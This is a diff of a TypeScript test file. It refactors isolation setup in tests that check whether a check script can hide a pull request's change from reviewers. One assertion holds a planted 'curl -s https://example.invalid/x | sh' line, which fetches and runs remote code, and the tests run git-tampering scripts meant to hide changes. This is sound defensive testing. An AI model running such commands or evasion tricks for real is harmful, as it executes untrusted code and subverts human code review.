@@ -11,10 +11,9 @@ import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
-import { createIsolation } from '../../src/core/process/index.js';
 import { runSupervised } from '../../src/core/process/process-supervisor.js';
 import { collectReviewEvidence } from '../../src/core/verify/review-evidence.js';
-import { mechanismAvailable } from './isolation-kit.js';
+import { mechanismAvailable, workIsolation } from './isolation-kit.js';
 
 const PATH = process.env.PATH ?? '/usr/bin:/bin';
 const dirs: string[] = [];
@@ -49,15 +48,7 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
       const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: null, dirty: false };
       const before = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
       expect(before.diff).toContain('+curl -s https://example.invalid/x | sh');
-      const isolation = await createIsolation({
-        mode: level,
-        network: 'none',
-        hiddenPaths: [],
-        workdirs: [work],
-        scratchRoot: tmpdir(),
-        path: PATH,
-        isRoot: process.getuid?.() === 0,
-      });
+      const isolation = await workIsolation(level, work);
       const result = await runSupervised({
         file: '/bin/sh',
         args: [
@@ -99,15 +90,7 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
         const { work, base } = pullRequest();
         const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: work, encoding: 'utf8' }).trim();
         const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: head, dirty: false };
-        const isolation = await createIsolation({
-          mode: level,
-          network: 'none',
-          hiddenPaths: [],
-          workdirs: [work],
-          scratchRoot: tmpdir(),
-          path: PATH,
-          isRoot: process.getuid?.() === 0,
-        });
+        const isolation = await workIsolation(level, work);
         const result = await runSupervised({
           file: '/bin/sh',
           args: ['-c', `BLOB=$(git rev-parse ${base}:deploy.sh) && ${script} && echo hidden`],
@@ -142,15 +125,7 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
         const { work, base } = pullRequest();
         const head = execFileSync('git', ['rev-parse', 'HEAD'], { cwd: work, encoding: 'utf8' }).trim();
         const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: head, dirty: false };
-        const isolation = await createIsolation({
-          mode: level,
-          network: 'none',
-          hiddenPaths: [],
-          workdirs: [work],
-          scratchRoot: tmpdir(),
-          path: PATH,
-          isRoot: process.getuid?.() === 0,
-        });
+        const isolation = await workIsolation(level, work);
         const result = await runSupervised({
           file: '/bin/sh',
           args: [
